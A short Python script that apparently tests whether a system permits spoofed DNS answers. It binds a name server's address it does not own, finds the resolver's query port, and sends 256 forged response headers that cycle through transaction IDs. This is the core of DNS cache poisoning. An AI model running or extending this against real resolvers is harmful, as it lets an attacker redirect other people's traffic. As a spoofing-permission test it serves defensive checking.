#!/usr/bin/python3
"""Answers for a name server that is somebody else: forged_answers.py SERVER RESOLVER.

Binds the server's address, which is not ours, and sends to the port from which RESOLVER is asking
it.  Says how many of 256 were refused, or sent.
"""
import socket
import sys
import time

IPV6_FREEBIND = 78
server, resolver = sys.argv[1:]
sock = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
sock.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
sock.bind((server, 53))
port, end = 0, time.time() + 10
while not port and time.time() < end:
    for line in open("/proc/self/net/udp6").read().splitlines()[1:]:
        local, remote = line.split()[1:3]
        if remote.endswith(":0035"):
            port = int(local.split(":")[1], 16)
if not port:
    sys.exit("nobody asks")
sent = 0
for ident in range(256):
    try:
        sock.sendto(ident.to_bytes(2, "big") + b"\x81\x80\0\1\0\1\0\0\0\0", (resolver, port))
        sent += 1
    except PermissionError:
        pass
print("sent" if sent else "refused", sent)
